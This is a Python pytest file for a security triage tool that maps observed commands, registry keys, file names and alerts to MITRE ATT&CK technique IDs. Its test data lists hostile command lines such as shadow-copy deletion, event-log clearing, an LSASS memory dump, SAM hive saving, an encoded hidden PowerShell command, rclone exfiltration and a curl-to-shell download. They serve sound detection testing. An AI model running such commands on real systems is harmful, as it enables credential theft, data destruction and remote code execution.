"""Raw observations become techniques, and everyday ones do not."""

from __future__ import annotations

import pytest

from andon.records.case import Observation
from andon.triage.attacker import judge
from andon.triage.attacker.hints import HINTS, found_in, techniques
from andon.triage.attacker.vocabulary import folded, is_shared, technique, telling, written
from spent import spent

SAID = [
    ("command", "vssadmin.exe delete shadows /all /quiet", "T1490"),
    ("command", "wmic shadowcopy delete", "T1490"),
    ("command", "bcdedit /set {default} recoveryenabled No", "T1490"),
    ("command", "wevtutil cl Security", "T1070.001"),
    ("command", "schtasks /create /sc minute /mo 1 /tn x /tr y", "T1053.005"),
    ("command", "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A", "T1027.010"),
    ("command", "powershell.exe -nop", "T1059.001"),
    ("command", "rundll32.exe C:\\x.dll,Run", "T1218.011"),
    ("command", "rundll32 comsvcs.dll MiniDump 624 lsass.dmp full", "T1003.001"),
    ("command", "reg save HKLM\\SAM sam.hiv", "T1003.002"),
    ("command", "net user evil Passw0rd /add", "T1136.001"),
    ("command", "nltest /domain_trusts", "T1482"),
    ("command", "net stop MSSQLSERVER", "T1489"),
    ("command", "rclone copy C:\\data mega:x", "T1567.002"),
    ("command", "curl -s http://192.0.2.1/x.sh | sh", "T1105"),
    ("registry", "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x", "T1547.001"),
    ("file-name", "HOW_TO_RECOVER_FILES.txt", "T1486"),
    ("path", "/etc/cron.d/x", "T1053.003"),
    ("user-agent", "sqlmap/1.5", "T1595.002"),
    ("title", "ET SCAN Nikto Web App Scan in Progress", "T1595.002"),
    ("domain", "abcdef.onion", "T1090.003"),
    ("title", "sshd: brute force trying to get access", "T1110"),
]


@pytest.mark.parametrize(("kind", "value", "number"), SAID)
def test_what_it_shows(kind: str, value: str, number: str) -> None:
    assert number in [hint.technique for hint in techniques(kind, value)]


@pytest.mark.parametrize(
    ("kind", "value"),
    [
        ("command", "vssadmin list shadows"),
        ("command", "notepad.exe report.txt"),
        ("command", "git commit -m done"),
        ("registry", "HKCU\\Software\\Vendor\\Product"),
        ("file-name", "report.docx"),
        ("user-agent", "Mozilla/5.0"),
        ("domain", "www.example.org"),
        ("title", "Windows logon success"),
        ("path", "/home/a/notes.txt"),
        ("mutex", "vssadmin delete shadows"),
        ("title", "New ip address in DNS logs."),
    ],
)
def test_everyday_things_show_nothing(kind: str, value: str) -> None:
    assert techniques(kind, value) == ()


def test_every_rule_is_well_formed_and_has_a_source() -> None:
    for hint in HINTS:
        assert technique(hint.technique) == hint.technique and 0.5 <= hint.confidence < 1 and hint.tactics
        assert set(hint.source.split()) <= {"attack", "ms", "lolbas", "man"} and hint.why


def test_hostile_text_costs_little() -> None:
    worst = 0.0
    for text in (
        "powershell " * 400,
        "a" * 5000,
        "-enc " * 1000,
        "reg add " * 600,
        "/" * 5000,
        "net user x y " * 400,
    ):
        with spent() as cost:
            techniques("command", text)
            techniques("title", text)
        worst = max(worst, cost.seconds)
    assert worst < 0.5


def test_no_kind_of_value_crowds_out_another_and_what_is_left_is_counted() -> None:
    many = [Observation("command", f"a harmless command {at:05d}") for at in range(5000)]
    seen = [*many, Observation("registry", "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x")]
    pairs, unread = found_in(seen)
    assert [hint.technique for _, hint in pairs] == ["T1547.001"] and unread == 4900
    assert found_in(reversed(seen)) == (pairs, unread)
    assert "4,900 raw values" in judge(seen, None).statement


def test_the_same_thing_has_one_name() -> None:
    assert written("registry", "HKEY_LOCAL_MACHINE\\\\SOFTWARE\\X\\") == written(
        "registry", "hklm\\software\\x"
    )
    assert (
        folded("Cobalt Strike") == "cobaltstrike" and is_shared("cobalt-strike") and not is_shared("LockBit")
    )
    assert technique(" t1059.001 ") == "T1059.001" and technique("T1059.1") == "" and technique("") == ""


def test_common_names_point_to_no_family() -> None:
    assert not telling("file-name", "svchost.exe") and telling("file-name", "laxhost.dll")
    assert not telling("registry", "hklm\\software\\microsoft\\windows\\currentversion\\run")
    assert not telling("port", "443") and not telling("mutex", "using")
    assert not telling("path", "c:\\windows\\system32\\cmd.exe")
    assert Observation("port", "443").confidence == 1.0
